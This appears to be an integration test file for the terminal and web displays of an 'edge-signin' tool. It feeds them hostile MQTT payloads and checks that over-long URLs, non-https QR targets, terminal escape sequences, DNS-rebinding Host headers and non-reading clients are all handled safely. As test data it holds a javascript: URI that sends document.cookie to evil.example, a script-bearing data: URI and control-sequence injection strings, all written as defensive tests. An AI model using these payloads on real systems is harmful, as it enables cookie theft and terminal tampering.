/**
 * The displays against whatever reaches their topics (issue 16: findings 2, 8 and the display parts of 9), run
 * as the shipped bundle: `edge-signin display` and `edge-signin display --web` as real processes on real Mosquitto.
 */
import { outputShows as eventually } from "../helpers/eventually.js";
import { request } from "node:http";
import { connect, type Socket } from "node:net";
import { readFile } from "node:fs/promises";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { DeviceSnapshot } from "../../src/display/device-view.js";
import { deviceTopics, type DisplayPayload, type StatePayload } from "../../src/mqtt/topics.js";
import { startCli, type RunningCli } from "../helpers/cli.js";
import { useTestBed } from "../helpers/fixture.js";
import { connectProbe, type MqttProbe } from "../helpers/mqtt-probe.js";

const PREFIX = "edge-signin";

function prompt(deviceId: string, overrides: Partial<DisplayPayload> = {}): DisplayPayload {
  return {
    deviceId,
    userCode: "WDJB-MJHT",
    verificationUri: "https://login.example.com/device",
    message: "To sign in, open https://login.example.com/device and enter WDJB-MJHT.",
    issuedAt: new Date().toISOString(),
    expiresAt: new Date(Date.now() + 600_000).toISOString(),
    ...overrides,
  };
}

/** A GET with the Host header we choose (fetch may not set it), answered with status and body. */
function get(url: string, host?: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(url, { headers: host === undefined ? {} : { host } }, (res) => {
      let body = "";
      res.setEncoding("utf8");
      res.on("data", (chunk: string) => (body += chunk));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on("error", reject);
    req.setTimeout(10_000, () => req.destroy(new Error(`GET ${url} timed out`)));
    req.end();
  });
}

/**
 * Reads a device's event stream until a snapshot passes `test`, and returns it; fails after `timeoutMs` with
 * the snapshots seen.
 */
async function snapshotWhere(
  url: string,
  deviceId: string,
  test: (snapshot: DeviceSnapshot) => boolean,
  timeoutMs = 15_000,
): Promise<DeviceSnapshot> {
  const controller = new AbortController();
  const timer = setTimeout(() => controller.abort(), timeoutMs);
  const seen: DeviceSnapshot[] = [];
  try {
    const response = await fetch(`${url}/devices/${deviceId}/events`, { signal: controller.signal });
    const decoder = new TextDecoder();
    let text = "";
    for await (const chunk of response.body ?? []) {
      text += decoder.decode(chunk as Uint8Array, { stream: true });
      let end: number;
      while ((end = text.indexOf("\n\n")) >= 0) {
        const frame = text.slice(0, end);
        text = text.slice(end + 2);
        const data = /^data: (.*)$/m.exec(frame)?.[1];
        if (data === undefined) continue;
        const snapshot = JSON.parse(data) as DeviceSnapshot;
        seen.push(snapshot);
        if (test(snapshot)) return snapshot;
      }
    }
    throw new Error("the event stream ended");
  } catch (error) {
    throw new Error(`no matching snapshot; saw ${JSON.stringify(seen).slice(0, 3000)}`, { cause: error });
  } finally {
    clearTimeout(timer);
    controller.abort();
  }
}

async function rssMiB(pid: number): Promise<number> {
  const status = await readFile(`/proc/${pid}/status`, "utf8");
  return Number(/VmRSS:\s+(\d+) kB/.exec(status)?.[1] ?? NaN) / 1024;
}

describe("displays against hostile payloads (shipped bundle)", () => {
  const { bed } = useTestBed({ probe: false });
  let publisher: MqttProbe;
  const clis: RunningCli[] = [];
  let n = 0;
  const nextDevice = () => `tv-hostile-${process.pid}-${++n}`;

  beforeAll(async () => {
    publisher = await connectProbe(bed.broker.url);
  });
  afterEach(() => {
    for (const cli of clis.splice(0)) cli.child.kill("SIGKILL");
  });
  afterAll(async () => {
    await publisher?.close();
  });

  const publishRetained = (topic: string, payload: unknown) =>
    publisher.publish(topic, JSON.stringify(payload), { retain: true, qos: 1 });

  function terminal(deviceId: string, env: Record<string, string> = {}): RunningCli {
    const cli = startCli(["display", "--device", deviceId], { EDGE_SIGNIN_MQTT_URL: bed.broker.url, ...env });
    clis.push(cli);
    return cli;
  }

  /** Waits for the terminal to draw the prompt, and checks it says to type the address instead of a QR code. */
  async function promptWithoutQr(term: RunningCli): Promise<string> {
    const screen = await eventually(
      () => term.stdout(),
      (out) => (out.includes("WDJB-MJHT") ? out : undefined),
    );
    expect(screen).toContain("Type the address into your browser");
    expect(screen).not.toMatch(/[▀▄█]/);
    return screen;
  }

  async function web(
    deviceIds: string[],
    env: Record<string, string> = {},
  ): Promise<{ cli: RunningCli; url: string }> {
    const cli = startCli(["display", "--web", ...deviceIds.flatMap((id) => ["--device", id])], {
      EDGE_SIGNIN_MQTT_URL: bed.broker.url,
      EDGE_SIGNIN_DISPLAY_PORT: "0",
      ...env,
    });
    clis.push(cli);
    const url = await eventually(
      () => cli.stdout(),
      (out) => /"url":"(http:\/\/127\.0\.0\.1:\d+)"/.exec(out)?.[1],
    );
    return { cli, url };
  }

  // Finding 2: a retained prompt too long for a QR code killed every display, again at every restart.
  it("survives a retained prompt whose URLs are too long for a QR code, on the terminal and the web, and says to type the address", async () => {
    const deviceId = nextDevice();
    const long = `https://login.example.com/device/${"x".repeat(2_350)}`;
    await publishRetained(
      deviceTopics(PREFIX, deviceId).display,
      prompt(deviceId, { verificationUri: long, verificationUriComplete: `${long}?code=WDJB-MJHT` }),
    );

    const term = terminal(deviceId);
    const screen = await promptWithoutQr(term);
    // Cut to a screen's worth, with an ellipsis where it was cut.
    const address = /open\n((?: {4}\S+\n)+)/.exec(screen)?.[1] ?? "";
    expect(
      address
        .split("\n")
        .map((line) => line.trim())
        .join(""),
    ).toHaveLength(512 - "https://".length);

    const { cli, url } = await web([deviceId]);
    const snapshot = await snapshotWhere(url, deviceId, (s) => s.prompt !== null);
    expect(snapshot.prompt).toMatchObject({ userCode: "WDJB-MJHT", qrUrl: null, qrSvg: null });
    expect([...(snapshot.prompt?.verificationUri ?? "")]).toHaveLength(512);
    expect((await get(`${url}/healthz`)).status).toBe(200);

    term.child.kill("SIGTERM");
    cli.child.kill("SIGTERM");
    expect(await term.exited).toBe(0);
    expect(await cli.exited).toBe(0);
    expect(term.stderr()).toBe("");
    expect(cli.stderr()).toBe("");
  });

  // Finding 9: a phone opens what it scans; only an https address may become a QR code.
  it.each([
    ["javascript:", "javascript:fetch('//evil.example/'+document.cookie)"],
    ["data:", "data:text/html,<script>alert(1)</script>"],
    ["http:", "http://login.example.com/device"],
    ["https with credentials", "https://user:pass@login.example.com/device"],
  ])("makes no QR code of a %s URL, on the terminal or the web", async (_kind, uri) => {
    const deviceId = nextDevice();
    await publishRetained(deviceTopics(PREFIX, deviceId).display, prompt(deviceId, { verificationUri: uri }));
    const term = terminal(deviceId);
    await promptWithoutQr(term);
    const { url } = await web([deviceId]);
    const snapshot = await snapshotWhere(url, deviceId, (s) => s.prompt !== null);
    expect(snapshot.prompt).toMatchObject({ qrUrl: null, qrSvg: null });
  });

  it("uses verification_uri for the QR code when only verification_uri_complete may not be one", async () => {
    const deviceId = nextDevice();
    await publishRetained(
      deviceTopics(PREFIX, deviceId).display,
      prompt(deviceId, { verificationUriComplete: "javascript:alert(1)" }),
    );
    const { url } = await web([deviceId]);
    const snapshot = await snapshotWhere(url, deviceId, (s) => s.prompt !== null);
    expect(snapshot.prompt?.qrUrl).toBe("https://login.example.com/device");
    expect(snapshot.prompt?.qrSvg).toMatch(/^<svg /);
  });

  // Finding 9: terminal escape sequences in a name claim (or anywhere else) reached the terminal raw.
  it("prints no control sequence that arrived in a payload, whatever the topic", async () => {
    const deviceId = nextDevice();
    const topics = deviceTopics(PREFIX, deviceId);
    const evil = "\u001b]0;owned\u0007Eve\u001b[2J\u001b[1;1H\u009b31m\u0007\u202eevil\r\u0000";
    const term = terminal(deviceId, { EDGE_SIGNIN_DISPLAY_SHOW_USERNAME: "true" });
    await eventually(
      () => term.stdout(),
      (out) => out.includes("connected to the broker"),
    );
    await publishRetained(
      topics.display,
      prompt(deviceId, { userCode: `AB${evil}CD`, verificationUri: evil }),
    );
    const state: StatePayload = {
      state: "signed_in",
      since: new Date().toISOString(),
      deviceId,
      account: { name: evil, username: `${evil}@example.com`, homeAccountId: "x", tenantId: "t" },
    };
    await publishRetained(topics.state, state);
    // Retained messages arrive once the display has subscribed: then the live events cannot be missed.
    await eventually(
      () => term.stdout(),
      (text) => text.includes("Signed in as"),
    );
    await publisher.publish(
      `${topics.base}/events/authenticated`,
      JSON.stringify({
        id: "1",
        type: "authenticated",
        deviceId,
        at: new Date().toISOString(),
        account: { name: evil, username: evil },
        claims: { name: evil, [evil]: 1 },
      }),
    );
    await publisher.publish(
      `${topics.base}/events/sign_in_failed`,
      JSON.stringify({ id: "2", type: `x${evil}`, deviceId, at: evil, reason: evil }),
    );
    const out = await eventually(
      () => term.stdout(),
      (text) => (text.includes("ID-token claims") && text.includes("event x") ? text : undefined),
    );
    expect(out).toContain("signed in as Eve");
    // Nothing but printable text and line ends: no ESC, no BEL, no C1, no carriage return, no bidi override.
    expect(out.match(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/gu)?.filter((c) => c !== "\n") ?? []).toStrictEqual(
      [],
    );
  });

  // Finding 9: the display's HTTP server answered any Host (DNS rebinding).
  it("answers only to its own host names, and to those configured", async () => {
    const deviceId = nextDevice();
    const { url, cli } = await web([deviceId], { EDGE_SIGNIN_DISPLAY_ALLOWED_HOSTS: "tv.example.org" });
    const port = new URL(url).port;
    const page = `${url}/devices/${deviceId}`;
    expect((await get(page, `attacker.example:${port}`)).status).toBe(403);
    expect((await get(`${url}/devices/${deviceId}/events`, "attacker.example")).status).toBe(403);
    expect((await get(`${url}/healthz`, "rebind.attacker.example.")).status).toBe(403);
    expect((await get(page, `127.0.0.1:${port}`)).status).toBe(200);
    expect((await get(page, `localhost:${port}`)).status).toBe(200);
    expect((await get(page, `[::1]:${port}`)).status).toBe(200);
    expect((await get(page, `TV.example.org:${port}`)).status).toBe(200);
    const refusals = cli
      .stdout()
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { msg: string; host?: string })
      .filter((line) => line.msg.startsWith("refused a request for a host name"));
    expect(refusals.map((line) => line.host)).toStrictEqual([
      `attacker.example:${port}`,
      "attacker.example",
      "rebind.attacker.example.",
    ]);
  });

  // Finding 9: the name and email of who signed in stayed on the shared screen for anyone to read.
  it("shows the signed-in name only for DISPLAY_SIGNED_IN_SECONDS and the username only when configured", async () => {
    const deviceId = nextDevice();
    const topics = deviceTopics(PREFIX, deviceId);
    const { url } = await web([deviceId], { EDGE_SIGNIN_DISPLAY_SIGNED_IN_SECONDS: "2" });
    await publishRetained(topics.state, {
      state: "signed_in",
      since: new Date().toISOString(),
      deviceId,
      account: { name: "Dave", username: "dave@example.com", homeAccountId: "h", tenantId: "t" },
    });
    const named = await snapshotWhere(url, deviceId, (s) => s.state?.state === "signed_in");
    expect(named.state?.account).toStrictEqual({ name: "Dave", username: "" });
    const neutral = await snapshotWhere(
      url,
      deviceId,
      (s) => s.state?.state === "signed_in" && s.state.account === undefined,
    );
    expect(JSON.stringify(neutral)).not.toContain("Dave");
    expect(JSON.stringify(neutral)).not.toContain("dave@");

    // A display that starts after the moment has passed never shows the name.
    const late = await web([deviceId], { EDGE_SIGNIN_DISPLAY_SIGNED_IN_SECONDS: "2" });
    const first = await snapshotWhere(late.url, deviceId, (s) => s.state !== null);
    expect(first.state?.account).toBeUndefined();

    // With the username configured, both show.
    const shown = await web([deviceId], { EDGE_SIGNIN_DISPLAY_SHOW_USERNAME: "true" });
    await publishRetained(topics.state, {
      state: "signed_in",
      since: new Date().toISOString(),
      deviceId,
      account: { name: "Erin", username: "erin@example.com", homeAccountId: "h", tenantId: "t" },
    });
    const withUsername = await snapshotWhere(shown.url, deviceId, (s) => s.state?.account?.name === "Erin");
    expect(withUsername.state?.account).toStrictEqual({ name: "Erin", username: "erin@example.com" });
  });

  // Finding 8: 1,000 clients that never read and 100 large updates took the web display to 2.3 GB, then it died.
  it("drops pages that do not read, keeps pages that do, and stays small under large updates", async () => {
    const deviceId = nextDevice();
    const topics = deviceTopics(PREFIX, deviceId);
    const { cli, url } = await web([deviceId]);
    const { port } = new URL(url);
    const pid = cli.child.pid ?? 0;
    const before = await rssMiB(pid);

    // Clients that ask for the stream and then never read a byte (as many as one client may hold, with the reader).
    const stalled: Socket[] = [];
    for (let i = 0; i < 15; i++) {
      const socket = connect(Number(port), "127.0.0.1");
      socket.on("error", () => undefined);
      socket.write(`GET /devices/${deviceId}/events HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`);
      socket.pause();
      stalled.push(socket);
    }
    // One page that reads everything, as a TV does.
    const reader = snapshotWhere(url, deviceId, (s) => s.prompt?.userCode === "LAST-CODE", 120_000);
    const health = async () =>
      JSON.parse((await get(`${url}/healthz`)).body) as { devices: Record<string, { pages: number }> };
    await expect.poll(async () => (await health()).devices[deviceId]?.pages, { timeout: 15_000 }).toBe(16);

    // The largest prompt a display renders: the longest URL that may still be a QR code, so the biggest QR.
    const longest = `https://login.example.com/device?x=${"y".repeat(470)}`;
    let updates = 0;
    let peak = before;
    for (; updates < 400; updates++) {
      await publishRetained(
        topics.display,
        prompt(deviceId, {
          userCode: `CODE-${updates}`,
          verificationUri: longest,
          verificationUriComplete: `${longest.slice(0, -6)}${String(updates).padStart(6, "0")}`,
          message: "m".repeat(16_000),
        }),
      );
      if (updates % 20 === 19) {
        peak = Math.max(peak, await rssMiB(pid));
        if ((await health()).devices[deviceId]?.pages === 1) break;
      }
    }
    await publishRetained(topics.display, prompt(deviceId, { userCode: "LAST-CODE" }));
    expect((await reader).prompt?.userCode).toBe("LAST-CODE");
    // The reader has closed its page; every stalled one was dropped long before.
    await expect.poll(async () => (await health()).devices[deviceId]?.pages, { timeout: 15_000 }).toBe(0);
    peak = Math.max(peak, await rssMiB(pid));
    for (const socket of stalled) socket.destroy();
    // What it measured, for the report: the growth is the bounded buffers of 16 pages, not the updates.
    console.info(
      `web display RSS ${before.toFixed(0)} MiB -> peak ${peak.toFixed(0)} MiB after ${updates} updates`,
    );
    expect(peak - before).toBeLessThan(200);
  });
});
